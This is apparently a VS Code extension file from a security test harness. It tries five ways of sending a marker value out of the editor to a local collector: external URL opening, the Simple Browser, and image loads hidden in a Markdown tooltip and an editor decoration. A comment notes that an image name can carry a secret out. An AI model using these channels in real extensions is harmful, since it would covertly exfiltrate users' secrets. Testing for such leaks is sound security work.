"use strict";
const { attack } = require("./attack");

exports.activate = (context) =>
  attack(context, "external", {
    async openExternal({ collector, mark }, vscode) {
      return vscode.env.openExternal(vscode.Uri.parse(`http://127.0.0.1:${collector}/${mark}`));
    },
    async asExternal({ collector, mark }, vscode) {
      const uri = await vscode.env.asExternalUri(vscode.Uri.parse(`http://127.0.0.1:${collector}/${mark}`));
      return String(uri);
    },
    async simpleBrowser({ collector, mark }, vscode) {
      await vscode.commands.executeCommand("simpleBrowser.api.open", vscode.Uri.parse(`http://127.0.0.1:${collector}/${mark}`));
      await new Promise((resolve) => setTimeout(resolve, 2500));
      return "opened";
    },
    // Markdown that the editor renders fetches its pictures. A name is enough to carry a secret out.
    hover({ collector, mark }, vscode) {
      const item = vscode.window.createStatusBarItem(vscode.StatusBarAlignment.Left, 1000);
      item.text = "proof";
      item.tooltip = new vscode.MarkdownString(`![x](https://${mark}.localhost:${collector}/x)`);
      item.show();
      return "shown";
    },
    async decoration({ collector, mark, workspace }, vscode) {
      const editor = await vscode.window.showTextDocument(vscode.Uri.file(`${workspace}/first.js`));
      const type = vscode.window.createTextEditorDecorationType({
        before: { contentIconPath: vscode.Uri.parse(`https://${mark}.localhost:${collector}/x.png`), width: "10px", height: "10px" },
      });
      editor.setDecorations(type, [new vscode.Range(0, 0, 0, 1)]);
      return "decorated";
    },
  });
